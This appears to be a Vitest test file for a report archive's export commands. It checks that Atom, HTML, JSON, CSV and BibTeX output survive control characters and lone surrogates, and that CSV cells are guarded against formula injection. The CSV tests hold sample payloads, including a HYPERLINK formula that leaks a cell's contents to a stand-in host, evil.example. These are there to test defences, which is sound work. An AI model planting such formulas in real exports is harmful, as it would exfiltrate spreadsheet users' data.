// Items 8 and 9 of the trust issue: every export parses whatever a record holds, and a CSV cell never runs as a
// spreadsheet formula unless --raw asks for the cells as they are.
import { parse as parseBibtex } from '@retorquere/bibtex-parser';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { makeArchive, recordYaml } from '../helpers.js';
import type { LoadedRecord, RecordData } from '../../src/model/record.js';
import { exportAtom } from '../../src/render/export/atom.js';
import { exportBibtex } from '../../src/render/export/bibtex.js';
import { exportCsv, guardCell } from '../../src/render/export/csv.js';
import { siteFiles, siteFileText, siteModel, singleFilePage } from '../../src/render/export/html.js';
import { exportJson } from '../../src/render/export/json.js';
import { reports } from './run.js';

const C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('');
const LONE = '\ud800 \udfff x\udc00y \ud83d';
const NASTY = `${C0}${LONE}\u007f\u0085\u009b\ufffe\uffff`;

function hostile(i: number, text: string): LoadedRecord {
  const record: RecordData = {
    title: `Title ${i} ${text}`,
    authors: [`Li ${text}`, 'Wang Fang'],
    team: `Team ${text}`,
    unit: `Unit ${text}`,
    organization: `Org ${text}`,
    series: 'Research Report',
    kind: 'regular',
    number: i,
    year: 2019,
    total: 5500 + i,
    date: '2019-03-04',
    abstract: `First ${text}\n\nSecond ${text}`,
    keywords: [`kw ${text}`, text],
    url: 'https://example.org/r',
  };
  return { id: `2019-R${i}`, file: `2019/regular-${String(i).padStart(3, '0')}.yaml`, record, positions: { keys: {}, values: {} } };
}

// Each C0 character on its own (so one cannot hide another), all of them together, and lone surrogates.
const RECORDS = [...[...C0].map((ch, i) => hostile(i + 1, `a${ch}b`)), hostile(40, NASTY), hostile(41, LONE)];
const XML_OK = { allowBooleanAttributes: true };

describe('exports of hostile records', () => {
  it('the Atom feed is well-formed XML with every C0 character and lone surrogates', () => {
    const xml = exportAtom(RECORDS, { baseUrl: 'https://example.org/', generated: new Date(0) });
    expect(XMLValidator.validate(xml, XML_OK)).toBe(true);
    const feed = new XMLParser().parse(xml) as { feed: { entry: unknown[] } };
    expect(feed.feed.entry).toHaveLength(RECORDS.length);
    expect(xml).toContain('a\\u001bb');
  });

  it('no HTML page holds a character XML or HTML refuses; the text is written out instead', () => {
    const m = siteModel(RECORDS);
    const pages = [...siteFiles(m)].filter((f) => f.path.endsWith('.html')).map(siteFileText);
    // The e-mail page without and with the site's address (its links to the catalogue then appear).
    const linked = singleFilePage(siteModel(RECORDS, { baseUrl: 'https://example.org/' }));
    expect(linked).toContain('https://example.org/');
    pages.push(singleFilePage(m), linked);
    expect(pages.join('')).toContain('a\\u001bb');
    for (const page of pages) {
      // eslint-disable-next-line no-control-regex
      expect(page).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    }
  });

  it('the JSON export parses and gives back each record text exactly', () => {
    const out = JSON.parse(exportJson(RECORDS, new Date(0))) as { reports: { title: string }[] };
    expect(out.reports.map((r) => r.title)).toEqual(RECORDS.map((r) => r.record.title));
  });

  it('the CSV export parses into one row per record with every column', () => {
    const rows = parseCsv(exportCsv(RECORDS, { raw: true }), { columns: true, relax_quotes: false }) as Record<string, string>[];
    expect(rows).toHaveLength(RECORDS.length);
    // A UTF-8 file cannot hold a lone surrogate: the encoder writes U+FFFD, every other character comes back.
    const wellFormed = (t: string) => t.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
    expect(rows.map((r) => r.title)).toEqual(RECORDS.map((r) => wellFormed(r.record.title)));
  });

  it('the BibTeX export parses into one entry per record, each with its fields', () => {
    const bib = parseBibtex(exportBibtex(RECORDS), { sentenceCase: false });
    expect(bib.errors).toEqual([]);
    expect(bib.entries).toHaveLength(RECORDS.length);
    for (const e of bib.entries) expect(Object.keys(e.fields)).toEqual(expect.arrayContaining(['title', 'author', 'abstract', 'keywords']));
  });
});

describe('CSV formula injection', () => {
  it.each(['=HYPERLINK("https://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r1'])('guards a cell starting %j with a leading quote', (cell) => {
    expect(guardCell(cell)).toBe(`'${cell}`);
  });

  it('guards a cell starting with a CR, and the formula on the line after it', () => {
    expect(guardCell('\r=1')).toBe("'\r'=1");
  });

  it('leaves other cells alone', () => {
    expect(guardCell('Rural = good')).toBe('Rural = good');
    expect(guardCell('2019-01-02')).toBe('2019-01-02');
    expect(guardCell("'quoted")).toBe("'quoted");
  });

  it('export csv guards a formula title by default, and --raw writes it as it is', async () => {
    const dir = makeArchive({ '2019/regular-001.yaml': recordYaml({ title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', authors: ['@Li Na'] }) });
    const guarded = await reports(['export', 'csv', '--archive', dir]);
    expect(guarded.code).toBe(0);
    const [row] = parseCsv(guarded.stdout, { columns: true }) as Record<string, string>[];
    expect(row!.title).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
    expect(row!.authors).toBe("'@Li Na");
    const raw = await reports(['export', 'csv', '--raw', '--archive', dir]);
    const [rawRow] = parseCsv(raw.stdout, { columns: true }) as Record<string, string>[];
    expect(rawRow!.title).toBe('=HYPERLINK("https://evil.example/?leak="&A1,"Click")');
  });

  it('--raw is for csv only', async () => {
    const r = await reports(['export', 'json', '--raw', '--archive', makeArchive({ '2019/regular-001.yaml': recordYaml() })]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--raw is for csv only/);
  });
});
